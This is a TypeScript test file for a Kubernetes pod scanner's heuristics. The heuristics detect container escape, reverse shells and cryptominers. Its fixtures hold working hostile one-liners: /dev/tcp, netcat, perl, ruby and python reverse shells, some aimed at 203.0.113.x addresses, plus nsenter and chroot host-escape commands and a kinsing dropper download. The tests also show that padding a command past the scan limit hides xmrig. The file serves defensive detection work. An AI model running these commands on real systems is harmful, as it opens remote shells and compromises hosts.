import assert from 'node:assert/strict';
import {
  hostEntry,
  MAX_SCANNED_CHARS,
  miner,
  reverseShell,
} from '../../../../src/subjects/workload/commands.js';
import { readPod } from '../../../../src/subjects/workload/pod.js';
import { cleanContainer, cleanPodSpec, pod } from './fixtures.js';

const view = (container: Record<string, unknown>) => {
  const v = readPod(pod(cleanPodSpec({ containers: [cleanContainer('app', container)] })));
  assert.ok(v);
  return v;
};
const shell = (script: string) => view({ command: ['sh', '-c', script] });

const CASES: Array<{ name: string; check: typeof hostEntry; script: string; want: boolean }> = [
  { name: 'nsenter -t 1', check: hostEntry, script: 'nsenter -t 1 -m sh', want: true },
  { name: 'nsenter --target=1', check: hostEntry, script: 'nsenter --target=1 --all', want: true },
  {
    name: 'nsenter with /proc/1/ns/mnt',
    check: hostEntry,
    script: 'nsenter --mount=/proc/1/ns/mnt -- reboot',
    want: true,
  },
  { name: 'nsenter into PID 17', check: hostEntry, script: 'nsenter -t 17 -n ss -ltn', want: false },
  { name: 'chroot /rootfs', check: hostEntry, script: 'chroot /rootfs /bin/bash', want: true },
  {
    name: 'chroot --userspec into /host',
    check: hostEntry,
    script: 'chroot --userspec=0:0 /host sh',
    want: true,
  },
  { name: 'chroot into a jail', check: hostEntry, script: 'chroot /var/jail /bin/app', want: false },
  {
    name: 'sh -i 0<&196 on /dev/tcp',
    check: reverseShell,
    script: '0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196',
    want: true,
  },
  {
    name: 'running commands read from /dev/tcp',
    check: reverseShell,
    script: 'exec 5<>/dev/tcp/h/80; cat <&5 | while read l; do $l 2>&5 >&5; done',
    want: true,
  },
  { name: 'ncat --sh-exec', check: reverseShell, script: 'ncat h 443 --sh-exec "bash"', want: true },
  { name: 'nc -lvpe (combined flags)', check: reverseShell, script: 'nc -lvpe /bin/sh 4444', want: true },
  { name: 'netcat piped into bash', check: reverseShell, script: 'nc h 4444 | /bin/bash', want: true },
  {
    name: 'perl socket and exec /bin/sh',
    check: reverseShell,
    script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("h")))){open(STDIN,">&S");exec("/bin/sh");}'`,
    want: true,
  },
  {
    name: 'ruby exec sh -i on a descriptor',
    check: reverseShell,
    script: `ruby -rsocket -e 'f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`,
    want: true,
  },
  { name: 'nc -z health check', check: reverseShell, script: 'nc -z db 5432 && echo up', want: false },
  {
    name: 'ssh -i with a key',
    check: reverseShell,
    script: 'ssh -i /keys/id backup@h "tar c /data" > /tmp/x',
    want: false,
  },
  {
    name: 'a multi-line Python script joining a socket to a shell',
    check: reverseShell,
    script:
      'python3 - <<EOF\nimport socket, subprocess\ns = socket.socket()\ns.connect(("h", 1))\nsubprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())\nEOF',
    want: true,
  },
  {
    name: 'a socket server in Python',
    check: reverseShell,
    script: 'python -c "import socket; s=socket.socket(); s.bind((\'\', 80))"',
    want: false,
  },
  { name: 'cpuminer-multi', check: miner, script: '/opt/cpuminer-multi -a yescrypt', want: true },
  { name: 'a pool host', check: miner, script: './run -o pool.supportxmr.com:443', want: true },
  { name: 'kinsing dropper', check: miner, script: 'curl -s http://h/kinsing -o /tmp/kinsing', want: true },
  {
    name: 'pool and mining words in an ML job',
    check: miner,
    script: 'python mine_data.py --pool workers --miner-threads 4',
    want: false,
  },
];

describe('risks/commands heuristics', () => {
  for (const c of CASES)
    it(`${c.name} → ${c.want ? 'match' : 'no match'}`, () => {
      assert.equal(c.check(shell(c.script)).length > 0, c.want, c.check(shell(c.script)).join('; '));
    });

  it('reads the exec commands of probes and lifecycle hooks too', () => {
    const hooked = view({
      command: ['/app'],
      livenessProbe: { exec: { command: ['sh', '-c', 'nc -z localhost 8080'] } },
      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.5 4444 &'] } } },
    });
    assert.deepEqual(reverseShell(hooked), ['container app: netcat running a program']);
  });

  it('never shows the matched text, only what shape matched', () => {
    const items = reverseShell(
      view({ command: ['sh'], env: [{ name: 'X', value: 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' }] }),
    );
    assert.deepEqual(items, [
      'container app: env X (interactive shell on /dev/tcp, standard input from /dev/tcp)',
    ]);
  });

  it(`scans at most ${MAX_SCANNED_CHARS} characters per pod, all containers together`, () => {
    const long = cleanContainer('long', { command: ['sh', '-c', 'x'.repeat(MAX_SCANNED_CHARS)] });
    const second = cleanContainer('second', { command: ['xmrig'] });
    const both = readPod(pod(cleanPodSpec({ containers: [long, second] })));
    assert.ok(both);
    assert.deepEqual(miner(both), []);
    const alone = readPod(pod(cleanPodSpec({ containers: [second, long] })));
    assert.ok(alone);
    assert.equal(miner(alone).length, 1);
  });

  it(`scans at most ${MAX_SCANNED_CHARS} characters of a command line`, () => {
    const pad = 'x'.repeat(MAX_SCANNED_CHARS);
    assert.deepEqual(miner(shell(`${pad} xmrig`)), []);
    assert.equal(miner(shell(`xmrig ${pad}`)).length, 1);
  });
});
